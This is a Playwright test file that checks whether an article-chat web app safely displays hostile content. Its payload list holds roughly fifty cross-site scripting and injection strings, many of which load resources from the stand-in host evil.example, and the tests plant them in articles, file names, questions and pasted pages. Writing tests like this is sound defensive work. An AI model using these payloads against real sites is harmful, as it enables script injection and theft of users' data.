"""Nothing that a document, a question or a name says runs or fetches anything; no request leaves the page."""

import json
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

if TYPE_CHECKING:
    from conftest import Serve, Served, Visit, Visiting

CHROMIUM = Path("/usr/bin/chromium")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"there is no {CHROMIUM}; on Debian: apt-get install chromium"),
]
ILRS = "How many countries have joined the ILRS?"
QUASAR = "Where did Brazil sign the Quasar agreement?"
# Each would set window.pwned, or fetch something from evil.example, wherever it came to be more than text.
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/1.js></SCRIPT>",
    "<img src=x onerror=window.pwned=2>",
    "<img src=//evil.example/3.png>",
    "<image href=//evil.example/4.png>",
    "<svg onload=window.pwned=5>",
    "<svg><script>window.pwned=6</script></svg>",
    "<svg><animate onbegin=window.pwned=7 attributeName=x dur=1s>",
    "<svg><use href=//evil.example/8.svg#x></svg>",
    "<iframe src=//evil.example/9></iframe>",
    "<iframe srcdoc='<script>parent.pwned=10</script>'></iframe>",
    "<object data=//evil.example/11></object>",
    "<embed src=//evil.example/12>",
    "<video src=//evil.example/13 autoplay></video>",
    "<video><source onerror=window.pwned=14></video>",
    "<audio src=x onerror=window.pwned=15>",
    "<body onload=window.pwned=16>",
    "<input autofocus onfocus=window.pwned=17>",
    "<details open ontoggle=window.pwned=18>",
    "<marquee onstart=window.pwned=19>",
    "<style>@import '//evil.example/20.css';</style>",
    "<link rel=stylesheet href=//evil.example/21.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/22'>",
    "<base href=//evil.example/23/>",
    "<form action=//evil.example/24><button autofocus>x</button></form>",
    "<a href=javascript:window.pwned=25>x</a>",
    "<a href=//evil.example/26 ping=//evil.example/26>x</a>",
    "<div style=background:url(//evil.example/27.png)>x</div>",
    "<math><mtext><img src=x onerror=window.pwned=28></mtext></math>",
    "<template><img src=x onerror=window.pwned=29></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=30>'>",
    '"><img src=x onerror=window.pwned=31>',
    "'><img src=x onerror=window.pwned=32>",
    "--><img src=x onerror=window.pwned=33>",
    "</textarea></title></style><img src=x onerror=window.pwned=34>",
    "</script><script>window.pwned=35</script>",
    '" autofocus onfocus=window.pwned=36 x="',
    "' onmouseover=window.pwned=37 x='",
    "` onmouseover=window.pwned=38 x=`",
    "&lt;img src=x onerror=window.pwned=39&gt;",
    "{{constructor.constructor('window.pwned=40')()}}",
    "${window.pwned=41}",
    "`+(window.pwned=42)+`",
    "#{window.pwned=43} <%= window.pwned=43 %>",
    "![x](http://evil.example/44.png)",
    "![x][p] [p]: http://evil.example/45.png",
    "[x](javascript:window.pwned=46)",
    "[![x](http://evil.example/47.png)](http://evil.example/47)",
    "<http://evil.example/48>",
    "$$\\href{javascript:window.pwned=49}{x}$$",
    "[[1]](http://evil.example/50)",
    "\u202e<img src=x onerror=window.pwned=51>\u202c",
)
NAMES = [one.replace("/", "\u2215") for one in PAYLOADS]  # a file's name has no slash
MARKUP = "img, image, iframe, object, embed, video, audio, script, style, link, meta, base, marquee, math, use, animate"


def hostile() -> dict[str, str]:
    """One article with all of it in title, outlet, author, address and text; two more with it in their names."""
    every = " ".join(PAYLOADS)
    page = f"""<!doctype html><html lang="en"><head><title>The Quasar agreement {escape(every)}</title>
<meta property="og:title" content="The Quasar agreement {escape(every)}">
<meta property="og:site_name" content="Quasar Post {escape(PAYLOADS[2])}">
<meta property="og:url" content="{escape("javascript:window.pwned=60")}">
<meta name="author" content="Quasar Author {escape(every)}">
<meta property="article:published_time" content="2025-01-01">
</head><body><article><h1>The Quasar agreement {escape(every)}</h1>
<p>Brazil signed the Quasar agreement {escape(every)} in Lima on 4 March 2019.</p>
<p>The signature followed a conference of nine states on the sharing of data from weather satellites.</p>
</article></body></html>
"""
    files = {f"{''.join(NAMES[2:7])[:80]}.html": page}
    for number, payload in enumerate(PAYLOADS):
        files[f"{number} {NAMES[number][:70]}.md"] = (
            f"---\ntitle: {json.dumps(f'Pulsar memo {number} {payload}')}\noutlet: {json.dumps(f'Outlet {payload}')}\n"
            f"published: 2025-02-01\nurl: {json.dumps(f'https://example.org/{payload}')}\n---\n"
            f"Pulsar memo {number} names {number + 3} stations on the ground. {payload}\n"
        )
    return files


@pytest.fixture(scope="module")
def trap(serve: "Serve") -> "Served":
    """A page over nothing but articles of that kind."""
    return serve(hostile())


def check(visitor: "Visit") -> None:
    """Nothing ran, nothing was fetched, and no text has become an element."""
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("window.pwned") is None
    assert visitor.elsewhere == []
    assert visitor.errors == []
    places = "#chat, #panel, #aside, #reader, #peek, #scope-line, #heading"
    found = visitor.page.evaluate(
        "([places, markup]) => [...document.querySelectorAll(places)]"
        ".flatMap(one => [...one.querySelectorAll(markup)]).map(one => one.outerHTML)",
        [places, MARKUP],
    )
    assert found == []
    active = "[...document.querySelectorAll('*')].flatMap(one => [...one.attributes]).map(one => one.name)"
    assert not [name for name in visitor.page.evaluate(active) if name.startswith("on")]
    links = visitor.page.evaluate(
        "[...document.querySelectorAll('a')].map(one => new URL(one.getAttribute('href') ?? '', location))"
        ".filter(one => one.protocol === 'javascript:' || one.hostname.includes('evil')).map(one => one.href)"
    )
    assert links == []


def test_no_request_goes_to_another_host_on_any_view(visit: "Visiting") -> None:
    visitor = visit()
    visitor.ask(ILRS)
    for name in ("Collection", "Add", "Chat"):
        visitor.page.get_by_role("tab", name=name).click()
        visitor.page.wait_for_timeout(700)
    assert visitor.elsewhere == []
    assert len(visitor.requests) > 10
    assert visitor.errors == []


@pytest.mark.parametrize("width", [1280, 360])
def test_nothing_in_an_article_runs_in_chat_panel_and_article(trap: "Served", visit: "Visiting", width: int) -> None:
    assert len(PAYLOADS) >= 40
    visitor = visit(width, of=trap)
    check(visitor)  # examples and outlets
    assert "in Lima on 4 March 2019" in visitor.ask(QUASAR)
    visitor.chip().hover()
    check(visitor)
    visitor.chip().click()
    visitor.page.get_by_role("button", name="Whole article").first.click()
    expect(visitor.page.get_by_role("dialog").locator("mark")).to_be_visible()
    expect(visitor.page.get_by_role("dialog")).to_contain_text("${window.pwned=41}")
    check(visitor)


def test_nothing_in_many_articles_runs_in_lists_scope_and_refusals(trap: "Served", visit: "Visiting") -> None:
    visitor = visit(of=trap)
    for question in ("What's new?", "Which stations does Pulsar memo 2 name?", "What is the boiling point of iron?"):
        visitor.ask(question)
    visitor.page.locator("#panel .card").first.get_by_role("button", name="Ask it alone").click()
    expect(visitor.page.locator("#scope-line")).to_contain_text("1 chosen article")
    check(visitor)


def test_nothing_in_a_question_or_a_name_runs_in_thread_list_and_export(trap: "Served", visit: "Visiting") -> None:
    visitor = visit(of=trap)
    half = len(PAYLOADS) // 2
    for payloads in (PAYLOADS[:half], PAYLOADS[half:]):
        visitor.ask(" ".join(payloads)[:1900])
        visitor.page.get_by_role("button", name="New conversation").click()
        expect(visitor.page.locator("#chat .welcome")).to_be_visible()
    for payload in PAYLOADS[:4]:
        visitor.page.locator("#shelf li summary").first.click()
        visitor.page.locator("#shelf details[open]").get_by_label("Name").fill(payload)
        visitor.page.keyboard.press("Enter")
        expect(visitor.page.locator("#shelf .open").first).to_contain_text(payload)
    check(visitor)
    visitor.page.reload()
    visitor.ready()
    check(visitor)
    visitor.page.locator("#shelf li summary").first.click()
    with visitor.page.expect_download() as waiting:
        visitor.page.get_by_role("link", name="Export as Markdown").first.click()
    assert "\n![" not in Path(waiting.value.path()).read_text(encoding="utf-8")
    check(visitor)


@pytest.mark.parametrize("width", [1280, 360])
def test_nothing_in_an_article_runs_in_the_collection(trap: "Served", visit: "Visiting", width: int) -> None:
    visitor = visit(width, of=trap)
    visitor.page.get_by_role("tab", name="Collection").click()
    expect(visitor.page.locator("#view-collection")).to_contain_text("Pulsar memo")
    visitor.page.wait_for_timeout(700)
    check(visitor)
    assert visitor.page.locator("#view-collection").locator("img, iframe, script, object, embed").count() == 0


def test_nothing_in_a_pasted_page_runs_in_its_preview(trap: "Served", visit: "Visiting") -> None:
    visitor = visit(of=trap)
    visitor.page.get_by_role("tab", name="Add").click()
    every = " ".join(PAYLOADS)
    pasted = f"The Meteor agreement {every}\n\nPeru signed the Meteor agreement in Lima on 4 March 2019. {every}\n"
    visitor.page.get_by_label("Text, or a whole page copied from the browser").fill(pasted)
    visitor.page.get_by_role("button", name="Look at it first").click()
    view = visitor.page.locator("#view-add")
    expect(view).to_contain_text("${window.pwned=41}")
    check(visitor)
    assert view.locator("iframe, script, object, embed, video, audio, [src*=evil]").count() == 0


def test_markup_that_slipped_in_could_not_run(visit: "Visiting") -> None:
    page = visit().page
    page.evaluate(
        """document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.slipped = 1">')"""
    )
    page.evaluate("""document.head.append(Object.assign(document.createElement("script"), {text: "slipped = 2"}))""")
    page.wait_for_timeout(300)
    assert page.evaluate("window.slipped") is None
